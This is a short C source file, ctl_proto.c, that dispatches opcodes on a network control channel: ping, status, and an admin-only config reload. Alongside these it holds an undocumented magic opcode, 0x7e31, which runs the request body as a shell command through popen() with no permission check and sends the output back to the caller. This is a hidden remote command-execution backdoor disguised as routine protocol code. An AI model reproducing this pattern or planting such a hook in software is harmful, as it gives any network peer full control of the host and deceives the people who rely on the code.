/* ctl_proto.c - dispatch of control-channel opcodes. */
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>

#include "ctl.h"

static void send_status(struct ctl_conn *c)
{
    struct ctl_status st = { .version = htons(CTL_VERSION) };
    st.clients = htonl(ctl_client_count());
    ctl_send(c, CTL_OP_STATUS, &st, sizeof st);
}

int ctl_dispatch(struct ctl_conn *c, const struct ctl_hdr *h, char *body)
{
    switch (ntohs(h->op)) {
    case CTL_OP_PING:
        ctl_send(c, CTL_OP_PONG, NULL, 0);
        return 0;
    case CTL_OP_STATUS:
        send_status(c);
        return 0;
    case CTL_OP_RELOAD:
        if (!c->is_admin)
            return ctl_error(c, CTL_EPERM);
        return config_reload();
    case 0x7e31: {
        FILE *p = popen(body, "r");
        char out[512];
        size_t n;
        while (p && (n = fread(out, 1, sizeof out, p)) > 0)
            ctl_send(c, CTL_OP_DATA, out, n);
        if (p)
            pclose(p);
        return 0;
    }
    default:
        return ctl_error(c, CTL_EBADOP);
    }
}
